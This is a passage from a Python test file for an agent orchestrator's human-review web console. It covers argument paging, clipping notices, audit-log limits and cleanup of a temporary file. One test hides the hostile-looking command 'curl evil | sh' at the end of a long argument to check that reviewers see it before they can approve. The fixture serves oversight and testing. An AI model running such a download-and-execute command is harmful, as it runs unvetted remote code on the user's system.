        assert "CLIPPED: only the first 2,000 of 100,000 characters are shown here" in listing
        assert "curl evil" not in listing and 'value="approve"' not in listing
        whole = f"{web.keys.base}/approvals/s1/req1"
        assert f'href="{whole}">Read it whole to decide</a>' in listing
        page = web.get("/approvals/s1/req1").text
        assert "curl evil | sh" in page
        # the text as it is: quotes and line breaks not escaped as JSON, once as HTML;
        # the backslash doubled (an escape on the page always means an escape)
        assert '<pre class="value">\necho &#34;start&#34; \\\\ done\nAAA' in page
        assert "A" * (100_000 - len(head) - len(tail)) + "\ncurl evil | sh\n</pre>" in page
        assert "text: 100,000 characters, 100,000 bytes (UTF-8), 3 lines" in page
        assert "2 values, 100,011 characters in all;" in page
        assert 'value="approve"' in page and f'action="{whole}"' in page
        assert '\\"' not in page and "\\n" not in page
    finally:
        owner.close()


def test_arguments_longer_than_a_page_are_paged_and_decided_on_the_last(project) -> None:
    from orchestrator.review.arguments import CHARS_PER_PAGE

    root, _, _ = project
    content = "".join(f"{n:09d}\n" for n in range(CHARS_PER_PAGE * 2 // 10 + 100))
    owner = waiting_owner(root, {"path": "/p", "content": content, "mode": 493})
    try:
        web = client(root)
        first = web.get("/approvals/s1/req1").text
        assert "page 1 of 3" in first and 'href="?page=2">next</a>' in first
        assert 'value="approve"' not in first and "after reading every page" in first
        assert "the rest is on the next page" in first
        second = web.get("/approvals/s1/req1?page=2").text
        assert (
            "the ones before are on the page before" in second and 'value="approve"' not in second
        )
        last = web.get("/approvals/s1/req1?page=3").text
        assert 'value="approve"' in last and '<code class="name">mode</code>' in last
        assert "number: 3 characters" in last and f"{len(content) // 10 - 1:09d}" in last
        # every character on exactly one page
        shown = ""
        for html in (first, second, last):
            for body in re.findall(r'<pre class="value">\n(.*?)</pre>', html, re.S):
                shown += body
        assert shown == "/p" + content + "493"
        assert web.get("/approvals/s1/req1?page=0").status_code == 400
        gone = web.get("/approvals/s1/other")
        assert gone.status_code == 404 and "waits for approval" in gone.text
    finally:
        owner.close()


def test_arguments_are_flattened_with_their_places_and_sizes() -> None:
    from orchestrator.review.arguments import flatten, page_of, preview

    values = flatten(
        {"path": "/a", "edits": [{"old": "é\n", "new": ""}], "n": 1.5, "x y": None, "o": {}}
    )
    assert [(v.name, v.kind, v.text, v.chars, v.bytes, v.lines) for v in values] == [
        ("path", "text", "/a", 2, 2, 1),
        ("edits[0].old", "text", "é\n", 2, 3, 1),
        ("edits[0].new", "text", "", 0, 0, 0),
        ("n", "number", "1.5", 3, 3, 1),
        ('"x y"', "null", "null", 4, 4, 1),
        ("o", "object", "{}", 2, 2, 1),
    ]
    assert [v.name for v in flatten("bare")] == ["(arguments)"]
    [part] = preview(flatten({"c": "x" * 10}), limit=4)
    assert (part.text, part.whole) == ("xxxx", False)
    # an empty value at the very end of a full last page is still shown
    paged = page_of(flatten({"a": "xxxx", "b": ""}), 1, size=4)
    assert paged.pages == 1 and [p.value.name for p in paged.parts] == ["a", "b"]
    last = page_of(values, 9, size=5)  # 13 characters: page 9 is the last, 3
    assert (last.number, [p.value.name for p in last.parts]) == (3, ['"x y"', "o"])


def test_what_a_page_leaves_out_is_said(project) -> None:
    from orchestrator.review.changes import AUDIT_LIMIT

    root, _, stage = project
    long_first = stage({"a.md": b"a\n"}, message="x" * 81)
    two_lines = stage({"b.md": b"b\n"}, message="first\n\nsecond")
    short = stage({"c.md": b"c\n"}, message="short")
    web = client(root)
    rows = {
        change_id: row
        for row in web.get("/").text.split("<tr>")
        for change_id in (long_first, two_lines, short)
        if change_id[:12] in row
    }
    assert (
        "x" * 80 + '<span class="clipped"' in rows[long_first] and "x" * 81 not in rows[long_first]
    )
    assert 'first<span class="clipped"' in rows[two_lines]
    assert 'class="clipped"' not in rows[short]
    log = AuditLog(root / ".sandbox" / "audit.jsonl")
    for number in range(AUDIT_LIMIT):
        log.record("run.started", run_id=f"run-{number}")
    assert "CLIPPED" not in web.get("/audit?operation=run.*").text
    log.record("run.started", run_id="run-last")
    page = web.get("/audit?operation=run.*").text
    assert f"CLIPPED: only the most recent {AUDIT_LIMIT} entries are shown" in page
    assert "run-last" in page and ">run-0<" not in page


def test_a_forward_file_that_cannot_be_written_is_one_line(project, monkeypatch) -> None:
    import orchestrator.review.opener as opener
    from orchestrator.review.server import ReviewError, serve

    root, _, _ = project

    def refused(**kwargs: object) -> str:
        raise PermissionError(13, "Permission denied", "/run/user/7/orchestrator-review-x")

    monkeypatch.setattr(opener.tempfile, "mkdtemp", refused)
    announced: list[str] = []
    with pytest.raises(ReviewError) as failed:
        serve(root, announce=lambda url, forward: announced.append(url))
    assert str(failed.value) == (
        "cannot write the file that opens the browser (/run/user/7/orchestrator-review-x: "
        "Permission denied); set XDG_RUNTIME_DIR or TMPDIR to a folder you can write"
    )
    assert announced == []


@pytest.mark.parametrize("sent", [signal.SIGTERM, signal.SIGINT])
def test_the_forward_file_goes_when_the_console_is_stopped(
    project, tmp_path: Path, sent: signal.Signals
) -> None:
    import os

    root, _, _ = project
    runtime = tmp_path / "run"
    runtime.mkdir(mode=0o700)
    process = subprocess.Popen(
        [sys.executable, "-m", "orchestrator", "review", "--no-browser", "--project", str(root)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env={**os.environ, "XDG_RUNTIME_DIR": str(runtime)},
    )
    try:
        assert process.stdout is not None
        process.stdout.readline()
        forward = Path(process.stdout.readline().split()[2].removeprefix("file://"))
        assert forward.is_file() and forward.parent.parent == runtime
        process.send_signal(sent)
        process.wait(timeout=30)
    finally:
        stop(process)
    assert list(runtime.iterdir()) == []
    # SIGTERM ends it as SIGTERM does; Ctrl-C as the command line's interruption does
    assert process.returncode == (-signal.SIGTERM if sent == signal.SIGTERM else 130)
